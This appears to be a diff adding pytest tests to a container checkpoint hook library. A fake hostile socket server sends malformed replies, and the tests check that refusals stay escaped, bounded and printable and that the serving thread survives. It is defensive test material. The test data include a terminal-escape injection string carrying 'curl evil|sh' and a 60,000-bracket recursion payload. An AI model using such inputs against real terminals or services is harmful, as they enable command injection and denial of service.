@@ -230,3 +230,56 @@ def test_pending_lets_the_main_loop_agree_on_a_step_before_the_safe_point(tmp_pa
         assert seen == ["down", "resumed"] and all(r.ok for r in replies) and not hook.pending()
     finally:
         hook.close()
+
+
+HOSTILE = r"""
+import os, socket, sys
+path = os.path.join(os.environ["MIGRT_HOOK_DIR"], "evil.sock")
+os.makedirs(os.path.dirname(path), exist_ok=True)
+srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+srv.bind(path)
+srv.listen(4)
+print("ready", flush=True)
+while True:
+    conn, _ = srv.accept()
+    conn.recv(65536)
+    conn.sendall(sys.argv[1].encode("latin-1") + b"\n")
+    conn.close()
+"""
+
+
+@pytest.mark.parametrize("answer,says", [
+    ("[" * 60_000, "answered no JSON object (nested deeper than 16 levels)"),
+    (json.dumps({"ok": False, "error": "\x1b]0;owned\x07\x1b[2J\x1b[31mrun curl evil|sh\u202e" + "x" * 5000}),
+     "answered: \\x1b]0;owned\\x07\\x1b[2J\\x1b[31mrun curl evil|sh\\u202e"),
+    ("\xff\xfe{}", "answered no JSON object"),
+])
+def test_a_hostile_answer_refuses_with_a_clear_escaped_message(tmp_path, answer, says):
+    """60k nested '[' once killed the pre-checkpoint step with RecursionError; an answer's escape
+    sequences went into the refusal raw, however long."""
+    env = {**os.environ, "MIGRT_HOOK_DIR": str(tmp_path / "hooks")}
+    proc = subprocess.Popen([sys.executable, "-c", HOSTILE, answer], env=env, stdout=subprocess.PIPE, text=True)
+    try:
+        assert proc.stdout.readline().strip() == "ready"
+        with pytest.raises(apphooks.HookRefused) as info:
+            apphooks.before_checkpoint([proc.pid], what="container job", timeout_s=5)
+    finally:
+        proc.kill()
+        proc.wait()
+    msg = str(info.value)
+    assert says in msg, msg
+    assert msg.isprintable() and len(msg) < 1500, msg
+
+
+def test_the_application_side_survives_a_hostile_request(apps, tmp_path):
+    """Any process of the container may connect to the hook's socket: 60k nested '[' once killed its
+    serving thread (RecursionError), and migrt's next pre-checkpoint then went unanswered."""
+    a = apps("r0")
+    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
+        s.connect(str(tmp_path / "hooks" / "r0.sock"))
+        s.sendall(b"[" * 60_000 + b"\n")
+        s.settimeout(5)
+        assert s.recv(100) == b""  # refused: the connection closed, nothing answered
+    note = apphooks.before_checkpoint([a.pid], what="c", timeout_s=5)
+    assert all(r.ok for r in note.replies.values())
+    assert note.after(apphooks.RESUMED, what="c") == []
